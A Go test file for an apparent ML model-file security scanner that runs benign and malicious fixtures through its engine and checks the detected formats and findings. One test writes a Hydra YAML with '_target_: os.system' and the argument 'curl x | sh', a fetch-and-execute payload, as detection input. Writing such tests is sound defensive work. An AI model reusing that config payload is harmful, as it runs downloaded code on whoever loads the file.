package scan

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/mlguard/mlguard/internal/finding"
)

// TestFormatsThroughTheEngine scans each format package's own fixtures
// through the engine, under the names loaders give them: sniffing and
// routing must reach the right scanner, benign files must give no finding at
// all, and each malicious one its rule.
// wantFacts are the architecture and parameter count the engine must carry
// from a format scanner to the file's entry (the JSON report's files[]).
var wantFacts = map[string]struct {
	arch   string
	params int64
}{
	"gguf/testdata/benign/llama3-v3.gguf":            {"llama", 1216},
	"safetensors/testdata/benign/dtypes.safetensors": {"llama", 162},
	"onnx/testdata/benign_mlp.onnx":                  {"mlp", 676},
}

func TestFormatsThroughTheEngine(t *testing.T) {
	t.Parallel()
	tests := []struct {
		src    string // under internal/scan
		name   string // the file's name in the scanned folder
		format string // the file's format, checked when set
		rule   string // "" for a benign file
	}{
		{"safetensors/testdata/benign/dtypes.safetensors", "model.safetensors", "safetensors", ""},
		{"safetensors/testdata/benign/subbyte.safetensors", "model.safetensors", "safetensors", ""},
		{"safetensors/testdata/invalid/overlapping.safetensors", "model.safetensors", "safetensors", finding.SafetensorsInvalidOffsets},
		{"safetensors/testdata/invalid/polyglot-zip.safetensors", "model.safetensors", "safetensors", finding.SafetensorsInvalidOffsets},
		{"safetensors/testdata/invalid/polyglot-zip.safetensors", "model.safetensors", "safetensors", finding.PickleDangerousGlobal}, // the appended zip's pickle
		{"../../testdata/models/benign/torch_state_dict.pt", "model.safetensors", "pytorch-zip", ""},                                 // named .safetensors, read as what it is
		{"../../testdata/models/malicious/torch_reduce_os_system.pt", "model.safetensors", "pytorch-zip", finding.PickleDangerousGlobal},
		{"gguf/testdata/benign/llama3-v3.gguf", "model.gguf", "gguf", ""},
		{"gguf/testdata/benign/llama3-v3-big-endian.gguf", "model.gguf", "gguf", ""},
		{"gguf/testdata/benign/chatml-v1.gguf", "model.gguf", "gguf", ""},
		{"gguf/testdata/malicious/cve-2024-34359.gguf", "model.gguf", "gguf", finding.TemplateSandboxEscape},
		{"onnx/testdata/benign_mlp.onnx", "model.onnx", "onnx", ""},
		{"onnx/testdata/benign_control_flow.onnx", "model.bin", "onnx", ""}, // found by content, not the name
		{"onnx/testdata/malicious_ext_traversal.onnx", "model.onnx", "onnx", finding.ONNXExternalDataPath},
		{"onnx/testdata/malicious_custom_op.onnx", "model.onnx", "onnx", finding.ONNXCustomOperator},
		{"onnx/testdata/benign_llm_io.onnx", "model.onnx", "onnx", ""},
		{"onnx/testdata/benign_fp16.onnx", "model.onnx", "onnx", ""},
		{"tensorflow/testdata/benign_saved_model.pb", "saved_model.pb", "tf-savedmodel", ""},
		{"tensorflow/testdata/benign_tf1_saved_model.pb", "saved_model.pb", "tf-savedmodel", ""},
		{"tensorflow/testdata/malicious_pyfunc.pb", "saved_model.pb", "tf-savedmodel", finding.TensorFlowDangerousOp},
		{"tensorflow/testdata/benign_keras_metadata.pb", "keras_metadata.pb", "tf-keras-metadata", ""},
		{"tensorflow/testdata/malicious_keras_metadata.pb", "keras_metadata.pb", "tf-keras-metadata", finding.KerasLambdaLayer},
		{"tensorflow/testdata/benign.tflite", "model.tflite", "tflite", ""},
		{"tensorflow/testdata/malicious_custom_op.tflite", "model.tflite", "tflite", finding.TFLiteCustomOp},
		{"keras/testdata/benign/keras2_functional.h5", "model.h5", "keras-h5", ""},
		{"keras/testdata/malicious/keras2_lambda.h5", "model.h5", "keras-h5", finding.KerasLambdaLayer},
		{"keras/testdata/benign/sequential.keras", "model.keras", "keras-v3", ""},
		{"keras/testdata/malicious/lambda_os_system.keras", "model.keras", "keras-v3", finding.KerasLambdaLayer},
		{"hdf5/testdata/weights_only.h5", "weights.h5", "hdf5", ""},
		{"configs/testdata/benign/llama_config.json", "config.json", "hf-config", ""},
		{"configs/testdata/benign/tokenizer_config.json", "tokenizer_config.json", "tokenizer-config", ""},
		{"configs/testdata/malicious/auto_map_config.json", "config.json", "hf-config", finding.ConfigRemoteCode},
		{"configs/testdata/malicious/chat_template.jinja", "chat_template.jinja", "chat-template", finding.TemplateSandboxEscape},
		{"configs/testdata/benign/model_config.yaml", "model_config.yaml", "nemo-config", ""},
		{"configs/testdata/malicious/hydra_targets.yaml", "train.yaml", "hydra-yaml", finding.ConfigHydraTarget},
		{"configs/testdata/benign/lightning_cli.yaml", "config.yaml", "", ""},
		{"configs/testdata/benign/asr_model.nemo", "asr.nemo", "", ""},
		{"configs/testdata/malicious/asr_model_exec.nemo", "asr.nemo", "", finding.ConfigHydraTarget},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			t.Parallel()
			data, err := os.ReadFile(filepath.FromSlash(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			dir := t.TempDir()
			p := filepath.Join(dir, tt.name)
			if err := os.WriteFile(p, data, 0o644); err != nil {
				t.Fatal(err)
			}
			rep, err := New(Options{}).Scan(context.Background(), []string{p})
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Files) != 1 {
				t.Fatalf("files %+v, skipped %+v", rep.Files, rep.Skipped)
			}
			if tt.format != "" && rep.Files[0].Format != tt.format {
				t.Errorf("format %q, want %q", rep.Files[0].Format, tt.format)
			}
			if want, ok := wantFacts[tt.src]; ok && (rep.Files[0].Architecture != want.arch || rep.Files[0].Parameters != want.params) {
				t.Errorf("architecture %q, parameters %d; want %q, %d", rep.Files[0].Architecture, rep.Files[0].Parameters, want.arch, want.params)
			}
			var rules []string
			found := false
			for _, f := range rep.Findings {
				rules = append(rules, f.Rule+" "+f.Severity.String()+": "+f.Message)
				found = found || f.Rule == tt.rule
			}
			switch {
			case tt.rule == "" && len(rep.Findings) > 0:
				t.Errorf("a benign file has findings:\n%s", strings.Join(rules, "\n"))
			case tt.rule != "" && !found:
				t.Errorf("want %s, got:\n%s", tt.rule, strings.Join(rules, "\n"))
			}
		})
	}
}

// TestONNXModelInfoThroughTheEngine: the engine carries all of an ONNX
// model's facts (producer, dtype, inputs, outputs) to the file's entry; the
// expectations are what the onnx library reads in the fixtures.
func TestONNXModelInfoThroughTheEngine(t *testing.T) {
	t.Parallel()
	b, err := os.ReadFile(filepath.FromSlash("onnx/testdata/modelinfo.json"))
	if err != nil {
		t.Fatal(err)
	}
	var want map[string]finding.ModelInfo
	if err := json.Unmarshal(b, &want); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"benign_llm_io.onnx", "benign_ir3_inputs.onnx", "benign_fp16.onnx", "benign_classifier.onnx"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rep, err := New(Options{}).Scan(context.Background(), []string{filepath.Join("onnx", "testdata", name)})
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Files) != 1 {
				t.Fatalf("files %+v, skipped %+v", rep.Files, rep.Skipped)
			}
			if diff := cmp.Diff(want[name], rep.Files[0].ModelInfo); diff != "" {
				t.Errorf("model info (-want +got):\n%s", diff)
			}
		})
	}
}

// TestRepositoryYAMLReportsOnlyDangerousTargets: a project's own Hydra or
// Lightning config instantiates the project's classes (ordinary, silent);
// a dangerous target is reported wherever it is.
func TestRepositoryYAMLReportsOnlyDangerousTargets(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	own := filepath.Join(dir, "train.yaml")
	bad := filepath.Join(dir, "callbacks.yaml")
	if err := os.WriteFile(own, []byte("model:\n  class_path: myproject.models.Classifier\ndata:\n  _target_: myproject.data.DataModule\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bad, []byte("cb:\n  _target_: os.system\n  _args_: [\"curl x | sh\"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rep, err := New(Options{}).Scan(context.Background(), []string{own, bad})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Findings) != 1 || rep.Findings[0].Rule != finding.ConfigHydraTarget || rep.Findings[0].Severity != finding.Critical ||
		!strings.HasSuffix(rep.Findings[0].Path, "callbacks.yaml") {
		t.Errorf("findings %+v, want one critical config/hydra-target in callbacks.yaml", rep.Findings)
	}
}

// TestTorchStateThroughTheEngine: a PyTorch checkpoint that scans clean gets
// the parameter count and dtype torch itself reports (testdata/expected.json
// of torchstate, printed by the fixture script), in both the zip and the
// legacy format; a malicious one gets none, since its state dict is never
// read.
func TestTorchStateThroughTheEngine(t *testing.T) {
	t.Parallel()
	b, err := os.ReadFile(filepath.FromSlash("torchstate/testdata/expected.json"))
	if err != nil {
		t.Fatal(err)
	}
	var want map[string]struct {
		DType      string `json:"dtype"`
		Parameters int64  `json:"parameters"`
	}
	if err := json.Unmarshal(b, &want); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"seq_zip.pt", "seq_legacy.pt", "checkpoint_zip.pt", "bf16_zip.pt", "tied_zip.pt", "args_zip.pt"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			rep, err := New(Options{}).Scan(context.Background(), []string{filepath.Join("torchstate", "testdata", name)})
			if err != nil || len(rep.Files) != 1 {
				t.Fatalf("%v %+v", err, rep)
			}
			f := rep.Files[0]
			if f.Parameters != want[name].Parameters || f.DType != want[name].DType || len(rep.Findings) != 0 {
				t.Errorf("parameters %d, dtype %q, findings %v; want %d, %q", f.Parameters, f.DType, rep.Findings, want[name].Parameters, want[name].DType)
			}
		})
	}
	rep, err := New(Options{}).Scan(context.Background(), []string{filepath.Join("..", "..", "testdata", "models", "malicious", "torch_reduce_os_system.pt")})
	if err != nil || len(rep.Files) != 1 {
		t.Fatalf("%v %+v", err, rep)
	}
	if f := rep.Files[0]; f.Parameters != 0 || f.DType != "" || len(rep.Findings) == 0 {
		t.Errorf("a malicious checkpoint: parameters %d, dtype %q, findings %d", f.Parameters, f.DType, len(rep.Findings))
	}
}
